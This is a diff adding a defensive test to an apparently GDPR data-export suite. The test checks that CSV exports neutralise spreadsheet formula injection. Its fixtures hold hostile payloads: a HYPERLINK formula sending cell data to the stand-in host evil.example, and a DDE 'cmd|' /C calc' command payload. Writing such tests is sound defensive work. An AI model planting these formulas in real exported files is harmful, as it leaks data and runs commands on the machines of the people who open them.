@@ -60,3 +60,33 @@ async def test_portability_leaves_out_what_we_derived_or_inferred(systems: Syste
 async def test_a_subject_with_nothing_in_a_system_gets_no_files(systems: Systems) -> None:
     records, copied = await _both(systems, "crm", replace(GRACE, request_id="r-none", email="nobody@example.com"))
     assert records == copied == {}
+
+
+async def test_formulas_in_a_subjects_data_do_not_run_when_the_csv_is_opened(systems: Systems) -> None:
+    """CSV injection (issue 14, item 10): text someone typed into a CRM field, written by COPY
+    and record by record alike, opens in a spreadsheet as text; a credit note's negative amount
+    stays a number, and the JSON keeps every value exactly."""
+    attack = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    await systems.fetch("crm", "UPDATE contacts SET first_name = $1, last_name = '@SUM(1+1)', "
+                               "notes = E'\\t-2+3+cmd|'' /C calc''!A0', phone = '+32 470 12 34 56' "
+                               "WHERE lower(email) = 'ada@example.com'", attack)
+    await systems.fetch("billing", "UPDATE invoices SET net_amount = -12.50 WHERE customer_id IN "
+                                   "(SELECT id FROM customers WHERE lower(email) = 'ada@example.com')")
+    for system in ("crm", "billing"):
+        records, copied = await _both(systems, system, ADA)
+        assert copied == records
+    records, copied = await _both(systems, "crm", ADA)
+    data, rows = copied[("crm", "contacts", "account")]
+    header, first = rows[0], rows[1]
+    cell = dict(zip(header, first))
+    assert cell["first_name"] == "'" + attack
+    assert cell["last_name"] == "'@SUM(1+1)"
+    assert cell["phone"] == "'+32 470 12 34 56"
+    assert data[0]["first_name"] == attack and data[0]["last_name"] == "@SUM(1+1)"
+    notes = [dict(zip(part_rows[0], r))["notes"] for _, part_rows in copied.values() for r in part_rows[1:]
+             if "notes" in part_rows[0]]
+    assert notes and all(n.startswith("'\t-2+3") for n in notes if n)
+    _, copied_billing = await _both(systems, "billing", ADA)
+    invoices = next(rows for key, (_, rows) in copied_billing.items() if key[1] == "invoices")
+    amounts = [dict(zip(invoices[0], r))["net_amount"] for r in invoices[1:]]
+    assert "-12.50" in amounts and all(not a.startswith("'") for a in amounts)
